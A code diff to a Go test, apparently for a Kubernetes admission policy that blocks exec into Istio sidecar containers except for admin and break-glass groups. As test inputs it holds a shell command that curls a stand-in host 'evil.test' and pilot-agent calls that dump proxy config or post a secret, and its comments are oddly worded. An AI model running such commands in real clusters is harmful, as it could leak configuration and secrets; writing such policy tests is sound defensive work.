@@ -18,7 +18,7 @@ import (
 
 // Ways to a pod that are none to its manifest.
 
-// TestNobodyRunsCommandsInTheProxy but those that ask it alone, and whoever may in the whole cluster.
+// TestNobodyRunsCommandsInTheProxy but whoever may in the whole cluster. Not even what asks the proxy: who answers in its place leads that on.
 func TestNobodyRunsCommandsInTheProxy(t *testing.T) {
 	guarded(t)
 	bind(t, "cluster-admin", rbacv1.Subject{APIGroup: rbacv1.GroupName, Kind: rbacv1.GroupKind, Name: "administrators"})
@@ -34,10 +34,15 @@ func TestNobodyRunsCommandsInTheProxy(t *testing.T) {
 		return out.CoreV1().RESTClient().Post().Namespace(ns).Resource("pods").Name("pod").SubResource("exec").
 			VersionedParams(&corev1.PodExecOptions{Container: container, Command: command, Stdout: true}, scheme.ParameterCodec).Do(t.Context()).Error()
 	}
-	shell, request := []string{"sh", "-c", "curl https://evil.test"}, []string{"pilot-agent", "request", "GET", "stats"}
+	shell := []string{"sh", "-c", "curl https://evil.test"}
+	requests := [][]string{
+		{"pilot-agent", "request", "GET", "config_dump"}, {"/usr/local/bin/pilot-agent", "request", "POST", "/x", "secret"},
+		{"pilot-agent", "request", "--debug-port", "15020", "POST", "/x"},
+	}
 	for _, container := range []string{"istio-proxy", "istio-init", "istio-validation"} {
-		for _, command := range [][]string{shell, {"pilot-agent"}, {"curl", "localhost:15000"}} {
+		for _, command := range append(requests, shell, []string{"pilot-agent"}, []string{"curl", "localhost:15000"}) {
 			caught(t, exec(meshed, container, command), "proxy-exec", "command: runs in Istio's proxy")
+			require.ErrorContains(t, exec(meshed, container, command), "istioctl proxy-config")
 		}
 	}
 	caught(t, exec(meshed, "", shell), "proxy-exec", "container: is not named")
@@ -46,12 +51,12 @@ func TestNobodyRunsCommandsInTheProxy(t *testing.T) {
 		t.Helper()
 		assert.NotContains(t, err.Error(), "ValidatingAdmissionPolicy", "the pod runs nowhere, and that is all that is wrong")
 	}
-	passes(exec(meshed, "istio-proxy", request))
 	passes(exec(meshed, "app", shell))
 	passes(exec(bare, "", shell))
 	passes(exec(exempt, "istio-proxy", shell))
 	for _, group := range []string{"administrators", "debuggers", "egress-governor:break-glass"} {
 		passes(exec(meshed, "istio-proxy", shell, group))
+		passes(exec(meshed, "istio-proxy", requests[0], group))
 	}
 }
 
